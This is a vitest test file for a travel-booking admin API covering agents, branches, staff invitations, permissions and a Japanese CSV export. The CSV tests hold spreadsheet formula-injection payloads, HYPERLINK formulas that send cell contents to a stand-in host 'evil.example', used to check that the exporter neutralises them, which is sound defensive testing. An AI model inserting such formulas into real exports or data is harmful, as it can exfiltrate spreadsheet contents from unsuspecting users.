/** The agents area's API: agents and their groups (branches), and the agents CSV. */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { and, eq, inArray, sql } from 'drizzle-orm';
import * as t from '../src/db/schema.ts';
import { parse } from 'csv-parse/sync';
import { agentsCsv, type AgentCsvRow } from '../src/modules/agents/agents-csv.ts';
import { errorOf, type TestApp } from './test-app.ts';
import { agentsHelpers, newAgent, newBranch, openAgentsArea, updateOf, type AgentIds, type Headers } from './support/agents-area.ts';

let ctx: TestApp;
let admin: Headers;
let sakuraAdmin: Headers;
let osakaStaff: Headers;
let ids: AgentIds;
beforeAll(async () => {
  ({ ctx, admin, sakuraAdmin, osakaStaff, ids } = await openAgentsArea());
});
afterAll(() => ctx.close());
const { db, call, accountIdOf, rowCounts, mailsTo, expectFieldRefusals } = agentsHelpers(() => ctx);

describe('agents', () => {
  let hieiId: number;

  it('lists each agent with its branches, each named in Japanese and English (the pickers show the English name in English)', async () => {
    const res = await call('GET', '/v1/agents?per_page=100', admin);
    expect(res.statusCode, res.body).toBe(200);
    const sakura = (res.json().agents as { id: number; name_en: string; groups: { id: number; name_ja: string; name_en: string; is_root: boolean }[] }[]).find((a) => a.id === ids.sakura)!;
    expect(sakura.name_en).toBe('Kyoto Sakura Travel');
    expect(sakura.groups).toEqual([
      { id: ids.sakuraRoot, name_ja: '京都さくら旅行 本社', name_en: 'Kyoto Sakura Travel head office', is_root: true },
      { id: ids.osaka, name_ja: '大阪支店', name_en: 'Osaka branch', is_root: false },
    ]);
  });

  it('creates an agent with its root group and main admin, who is invited by mail', async () => {
    const created = await call('POST', '/v1/agents', admin, newAgent);
    expect(created.statusCode).toBe(200);
    hieiId = created.json().id;

    const [invite, ...more] = await mailsTo('hiei-admin@example.com');
    expect(more).toHaveLength(0);
    expect(invite).toMatchObject({ kind: 'account.invitation', status: 'PENDING' });
    expect(invite!.bodyText).toMatch(/http:\/\/sagano\.test\/reset-password\?token=/);

    const got = await call('GET', `/v1/agents/${hieiId}`, admin);
    expect(got.statusCode).toBe(200);
    const agent = got.json();
    expect(agent).toMatchObject({
      id: hieiId,
      name_ja: '比叡トラベル',
      agent_type: 'CONTRACTED',
      agent_payment_type: 'COUPON',
      country_code: 'JPN',
      root_group_fax: '075-222-3334',
      require_totp: false,
      root_group_main_admin: { name: '比叡 太郎', email: 'hiei-admin@example.com', tel: '075-222-3333' },
      root_group: { is_root: true, name_ja: '比叡トラベル', name_en: 'Hiei Travel', fax: '075-222-3334' },
    });
    expect(agent.groups).toHaveLength(1);
    expect(agent.root_group.staffs).toEqual([
      expect.objectContaining({ email: 'hiei-admin@example.com', staff_type: 'ADMIN', language_code: 'ja', has_password: false, totp_enrolled: false, is_self: false, agent_id: hieiId }),
    ]);
    expect(agent.root_group.main_admin.id).toBe(agent.root_group.staffs[0].id);

    const [log] = await db().select().from(t.operationLogs).where(eq(t.operationLogs.operation, 'agents.create'));
    expect(log).toMatchObject({ category: 'agents', isError: false, operator: 'admin@example.com' });

    // The invitation works: the main admin sets a password and signs in as the agent's admin.
    const token = decodeURIComponent(/reset-password\?token=([A-Za-z0-9_%-]+)/.exec(invite!.bodyText)![1]!);
    expect((await ctx.app.inject({ method: 'PUT', url: '/v1/reset-password', payload: { token, password: 'Hiei#Travel2026' } })).statusCode).toBe(200);
    const hiei = await ctx.login('hiei-admin@example.com', 'Hiei#Travel2026');
    const me = (await call('GET', '/v1/auth/me', hiei)).json().user;
    expect(me).toMatchObject({ role: 'agentAdmin', agent_id: hieiId });
    expect((await call('GET', `/v1/agents/${hieiId}`, hiei)).json().root_group.staffs[0]).toMatchObject({ is_self: true, has_password: true });
  });

  it('updates every editable field, the root group fax and the main admin', async () => {
    const res = await call('PUT', `/v1/agents/${hieiId}`, admin, updateOf({ payment_day_end_of_month: true }));
    expect(res.statusCode).toBe(200);
    expect(res.json()).toMatchObject({
      name_ja: '比叡トラベル株式会社',
      agent_type: 'SPECIAL_CONTRACTED',
      agent_payment_type: 'MONTHLY',
      payment_day: null, // month end carries no day
      payment_day_end_of_month: true,
      billing_day: null,
      billing_day_end_of_month: true,
      ignore_cancellation_policy: true,
      root_group_fax: '075-222-9999',
      root_group: { fax: '075-222-9999' },
      root_group_main_admin: { name: '比叡 次郎', tel: '075-222-0000', email: 'hiei-admin@example.com' },
    });
    const again = await call('PUT', `/v1/agents/${hieiId}`, admin, updateOf());
    expect(again.json()).toMatchObject({ payment_day: 15, payment_day_end_of_month: false });
  });

  it('refuses a bad update naming the field, and changes nothing', async () => {
    const before = (await call('GET', `/v1/agents/${hieiId}`, admin)).json();
    const cases: [Record<string, unknown>, string][] = [
      [{ payment_day: null }, 'payment_day'],
      [{ billing_day: 31, billing_day_end_of_month: false }, 'billing_day'],
      [{ country_code: 'XXX' }, 'country_code'],
      [{ name_ja: ' ' }, 'name_ja'],
      [{ agent_type: 'VIP' }, 'agent_type'],
      [{ main_admin_tel: 'call me' }, 'main_admin_tel'],
    ];
    await expectFieldRefusals('PUT', `/v1/agents/${hieiId}`, admin, cases, (overrides) => updateOf({ name_ja: '変わってはいけない', ...overrides }));
    expect((await call('GET', `/v1/agents/${hieiId}`, admin)).json()).toEqual(before);
    expect((await call('PUT', '/v1/agents/abc', admin, updateOf())).statusCode).toBe(400);
    expect((await call('PUT', '/v1/agents/999999', admin, updateOf())).statusCode).toBe(404);
  });

  it('refuses bad input on create naming the field, and writes nothing', async () => {
    const before = await rowCounts();
    const cases: [Record<string, unknown>, string][] = [
      [{ main_admin_email: 'not-an-email' }, 'main_admin_email'],
      [{ name_ja: '' }, 'name_ja'],
      [{ main_admin_name: '' }, 'main_admin_name'],
      [{ agent_type: 'VIP' }, 'agent_type'],
      [{ country_code: 'JP' }, 'country_code'],
      [{ country_code: 'ZZZ' }, 'country_code'],
      [{ root_group_fax: 'fax me' }, 'root_group_fax'],
    ];
    await expectFieldRefusals('POST', '/v1/agents', admin, cases, (overrides) => ({ ...newAgent, main_admin_email: 'nobody@example.com', ...overrides }));
    for (const email of ['STAFF@example.com', 'agent-contracted@example.com']) {
      const taken = await call('POST', '/v1/agents', admin, { ...newAgent, main_admin_email: email });
      expect(taken.statusCode).toBe(409);
      expect(errorOf(taken)).toMatchObject({ error_code: 'EMAIL_ALREADY_REGISTERED', field: 'main_admin_email' });
    }
    expect(await rowCounts()).toEqual(before);
  });

  it('refuses to delete an agent with live bookings, or with bookings on record', async () => {
    const live = await db().execute(sql`select count(*)::int as n from bookings where agent_id = ${ids.sakura} and status not in ('NOT_RESERVED', 'CANCELLED')`);
    expect((live as unknown as { rows: { n: number }[] }).rows[0]!.n).toBeGreaterThan(0);
    const res = await call('DELETE', `/v1/agents/${ids.sakura}`, admin);
    expect(res.statusCode).toBe(409);
    expect(errorOf(res).error_code).toBe('AGENT_HAS_LIVE_BOOKINGS');

    // Every booking of 洛西観光サービス ended: it still references the agent, which is kept.
    await db().update(t.bookings).set({ status: 'CANCELLED' }).where(eq(t.bookings.agentId, ids.rakusai));
    const ended = await call('DELETE', `/v1/agents/${ids.rakusai}`, admin);
    expect(ended.statusCode).toBe(409);
    expect(errorOf(ended).error_code).toBe('AGENT_HAS_BOOKINGS');
    expect(await db().select().from(t.agents).where(eq(t.agents.id, ids.rakusai))).toHaveLength(1);
    const [log] = await db().select().from(t.operationLogs).where(and(eq(t.operationLogs.operation, 'agents.delete'), eq(t.operationLogs.isError, true)));
    expect(log?.statusCode).toBe(409);
  });

  it('deletes an agent without bookings with its groups and staff accounts', async () => {
    await call('POST', '/v1/agent_groups', admin, newBranch(ids.sakura, { agent_id: hieiId, main_admin_email: 'hiei-branch@example.com' }));
    const staffIds = (await db().select({ id: t.agentStaffs.accountId }).from(t.agentStaffs).where(eq(t.agentStaffs.agentId, hieiId))).map((r) => r.id);
    expect(staffIds).toHaveLength(2);
    const hiei = await ctx.login('hiei-admin@example.com', 'Hiei#Travel2026');

    const res = await call('DELETE', `/v1/agents/${hieiId}`, admin);
    expect(res.statusCode).toBe(200);
    expect((await call('GET', `/v1/agents/${hieiId}`, admin)).statusCode).toBe(404);
    expect(await db().select().from(t.agentGroups).where(eq(t.agentGroups.agentId, hieiId))).toHaveLength(0);
    expect(await db().select().from(t.accounts).where(inArray(t.accounts.id, staffIds))).toHaveLength(0);
    expect((await call('GET', '/v1/auth/me', hiei)).statusCode).toBe(401);
    expect((await call('DELETE', `/v1/agents/${hieiId}`, admin)).statusCode).toBe(404);
  });
});

describe('agent groups', () => {
  let ekimaeId: number;

  it('creates a branch with its main admin, invited by mail; reads, updates and deletes it', async () => {
    const created = await call('POST', '/v1/agent_groups', admin, newBranch(ids.sakura));
    expect(created.statusCode).toBe(200);
    ekimaeId = created.json().id;
    expect(await mailsTo('ekimae-admin@example.com')).toEqual([expect.objectContaining({ kind: 'account.invitation' })]);

    const got = await call('GET', `/v1/agent_groups/${ekimaeId}`, admin);
    expect(got.json()).toMatchObject({
      id: ekimaeId,
      agent_id: ids.sakura,
      is_root: false,
      name_ja: '京都駅前支店',
      fax: '075-333-4444',
      main_admin: { name: '駅前 花子', email: 'ekimae-admin@example.com', tel: '075-333-4445' },
      staffs: [{ email: 'ekimae-admin@example.com', staff_type: 'ADMIN', group_id: ekimaeId }],
    });
    // The agent's admin reads it too, within the agent.
    expect((await call('GET', `/v1/agent_groups/${ekimaeId}`, sakuraAdmin)).statusCode).toBe(200);
    // Branch staff read their own branch with what they need of their agent, which they may not read whole.
    const ownBranch = await call('GET', `/v1/agent_groups/${ids.osaka}`, osakaStaff);
    expect(ownBranch.statusCode, ownBranch.body).toBe(200);
    expect(ownBranch.json().agent).toEqual({ id: ids.sakura, name_ja: expect.any(String), name_en: expect.any(String), agent_type: 'FREE', ignore_cancellation_policy: false });
    expect((await call('GET', `/v1/agents/${ids.sakura}`, osakaStaff)).statusCode).toBe(403);
    expect((await call('GET', `/v1/agents/${ids.sakura}`, sakuraAdmin)).json().groups.map((g: { id: number }) => g.id)).toEqual([ids.sakuraRoot, ids.osaka, ekimaeId]);

    const { agent_id: _agent, main_admin_email: _email, ...update } = newBranch(ids.sakura, { name_ja: '京都駅八条口支店', main_admin_name: '駅前 華子', fax: '075-333-0000' });
    const updated = await call('PUT', `/v1/agent_groups/${ekimaeId}`, admin, update);
    expect(updated.statusCode).toBe(200);
    expect(updated.json()).toMatchObject({ name_ja: '京都駅八条口支店', fax: '075-333-0000', main_admin: { name: '駅前 華子' } });

    const bad = await call('PUT', `/v1/agent_groups/${ekimaeId}`, admin, { ...update, name_ja: '' });
    expect(bad.statusCode).toBe(400);
    expect(errorOf(bad).field).toBe('name_ja');
  });

  it('keeps the root group, and a branch with bookings', async () => {
    const root = await call('DELETE', `/v1/agent_groups/${ids.sakuraRoot}`, admin);
    expect(root.statusCode).toBe(409);
    expect(errorOf(root).error_code).toBe('ROOT_GROUP_NOT_DELETABLE');

    const osakaBookings = await db().select({ status: t.bookings.status }).from(t.bookings).where(eq(t.bookings.agentSubGroupId, ids.osaka));
    if (osakaBookings.length === 0) {
      const [any] = await db().select({ id: t.bookings.id }).from(t.bookings).where(eq(t.bookings.agentId, ids.sakura)).limit(1);
      await db().update(t.bookings).set({ agentSubGroupId: ids.osaka, status: 'RESERVED' }).where(eq(t.bookings.id, any!.id));
    }
    const live = osakaBookings.some((b) => b.status !== 'NOT_RESERVED' && b.status !== 'CANCELLED') || osakaBookings.length === 0;
    const res = await call('DELETE', `/v1/agent_groups/${ids.osaka}`, admin);
    expect(res.statusCode).toBe(409);
    expect(errorOf(res).error_code).toBe(live ? 'AGENT_GROUP_HAS_LIVE_BOOKINGS' : 'AGENT_GROUP_HAS_BOOKINGS');
    expect(await db().select().from(t.agentGroups).where(eq(t.agentGroups.id, ids.osaka))).toHaveLength(1);
  });

  it('deletes a branch without bookings with its staff accounts', async () => {
    const adminId = await accountIdOf('ekimae-admin@example.com');
    const res = await call('DELETE', `/v1/agent_groups/${ekimaeId}`, admin);
    expect(res.statusCode).toBe(200);
    expect((await call('GET', `/v1/agent_groups/${ekimaeId}`, admin)).statusCode).toBe(404);
    expect(await db().select().from(t.accounts).where(eq(t.accounts.id, adminId))).toHaveLength(0);
  });

  it('refuses bad input naming the field and writes nothing', async () => {
    const before = await rowCounts();
    const cases: [Record<string, unknown>, string][] = [
      [{ agent_id: 'x' }, 'agent_id'],
      [{ name_ja: '' }, 'name_ja'],
      [{ main_admin_email: 'nope' }, 'main_admin_email'],
      [{ fax: 'fax' }, 'fax'],
    ];
    for (const [overrides, field] of cases) {
      const res = await call('POST', '/v1/agent_groups', admin, newBranch(ids.sakura, overrides));
      expect(res.statusCode, field).toBe(400);
      expect(errorOf(res).field).toBe(field);
    }
    const taken = await call('POST', '/v1/agent_groups', admin, newBranch(ids.sakura, { main_admin_email: 'branch-free@example.com' }));
    expect(taken.statusCode).toBe(409);
    expect(errorOf(taken)).toMatchObject({ error_code: 'EMAIL_ALREADY_REGISTERED', field: 'main_admin_email' });
    const noAgent = await call('POST', '/v1/agent_groups', admin, newBranch(ids.sakura, { agent_id: 999999 }));
    expect(noAgent.statusCode).toBe(404);
    expect(errorOf(noAgent).field).toBe('agent_id');
    expect(await rowCounts()).toEqual(before);
  });

  it('is written by operators only', async () => {
    const forbidden = await call('POST', '/v1/agent_groups', sakuraAdmin, newBranch(ids.sakura, { main_admin_email: 'sneaky@example.com' }));
    expect(forbidden.statusCode).toBe(403);
    const { agent_id: _a, main_admin_email: _e, ...update } = newBranch(ids.sakura);
    expect((await call('PUT', `/v1/agent_groups/${ids.osaka}`, sakuraAdmin, update)).statusCode).toBe(403);
    expect((await call('DELETE', `/v1/agent_groups/${ids.osaka}`, sakuraAdmin)).statusCode).toBe(403);
    expect(await db().select().from(t.accounts).where(eq(t.accounts.email, 'sneaky@example.com'))).toHaveLength(0);
  });
});

describe('agents CSV', () => {
  it('exports every agent as UTF-8 CSV with a BOM and a Japanese header', async () => {
    const hyperlink = '=HYPERLINK("https://evil.example/?d="&A2,"詳細")';
    const created = await call('POST', '/v1/agents', admin, { ...newAgent, name_ja: '"嵯峨野", 観光', name_en: hyperlink, main_admin_email: 'csv-admin@example.com', main_admin_name: '=HYPERLINK("x")' });
    expect(created.statusCode, created.body).toBe(200);
    const res = await call('GET', '/v1/csv/agents', admin);
    expect(res.statusCode).toBe(200);
    const { csv_base64, filename } = res.json();
    expect(filename).toMatch(/^agents_\d{8}\.csv$/);
    const bytes = Buffer.from(csv_base64, 'base64');
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = bytes.toString('utf8').slice(1);
    const lines = text.split('\r\n');
    expect(lines[0]).toMatch(/^代理店ID,代理店名,代理店名（カナ）,代理店名（英語）/);
    expect(lines.at(-1)).toBe('');
    const agents = await db().select().from(t.agents);
    expect(lines).toHaveLength(agents.length + 2);
    expect(text).toContain('京都さくら旅行');
    expect(text).toContain('嵐山ツーリスト株式会社');
    expect(text).toContain('"""嵯峨野"", 観光"');
    expect(text).toContain(`'=HYPERLINK(""x"")`);
    // The agent named by a formula comes out as text behind a ', as the reports write it.
    const row = (parse(text, { record_delimiter: '\r\n' }) as string[][]).find((cells) => cells[0] === String(created.json().id))!;
    expect(row.slice(1, 4)).toEqual(['"嵯峨野", 観光', newAgent.name_kana, `'${hyperlink}`]);
    const sakura = lines.find((l) => l.includes(',京都さくら旅行,'))!;
    expect(sakura).toContain(',フリー,事前カード決済,JPN,中村 さくら,agent-free@example.com,');

    expect((await call('GET', '/v1/csv/agents', sakuraAdmin)).statusCode).toBe(403);
  });

  it('writes through the reports\' writer: RFC 4180 quoting and every formula-leading text neutralised, as in the reports', () => {
    const base: AgentCsvRow = {
      id: 12, nameJa: 'plain', nameKana: 'a,b', nameEn: 'say "hi"', nameOrigin: 'two\nlines', agentType: 'FREE', countryCode: 'JPN',
      mainAdmin: { name: '=HYPERLINK("https://evil.example/?x="&A1,"click")', email: '@SUM(A1)', tel: '+81-75-000-0000' }, rootGroupFax: '-2+3',
      paymentDay: 5, paymentDayEndOfMonth: false, billingDay: null, billingDayEndOfMonth: true, ignoreCancellationPolicy: false, requireTotp: true,
      branchCount: 0, staffCount: 3, createdAt: new Date('2026-04-01T00:00:00Z'), updatedAt: new Date('2026-04-01T15:30:00Z'),
    };
    const text = agentsCsv([base]);
    expect(text.startsWith('\uFEFF代理店ID,')).toBe(true);
    const row = parse(text.slice(1), { record_delimiter: '\r\n' }).at(1) as string[];
    expect(row).toEqual([
      '12', 'plain', 'a,b', 'say "hi"', 'two\nlines', 'フリー', '事前カード決済', 'JPN',
      `'=HYPERLINK("https://evil.example/?x="&A1,"click")`, "'@SUM(A1)", "'+81-75-000-0000", "'-2+3",
      '5日', '月末', 'いいえ', 'はい', '0', '3', '2026-04-01 09:00', '2026-04-02 00:30',
    ]);
    expect(text).toContain(`,"'=HYPERLINK(""https://evil.example/?x=""&A1,""click"")",`);
    expect(text.endsWith('\r\n')).toBe(true);
  });
});
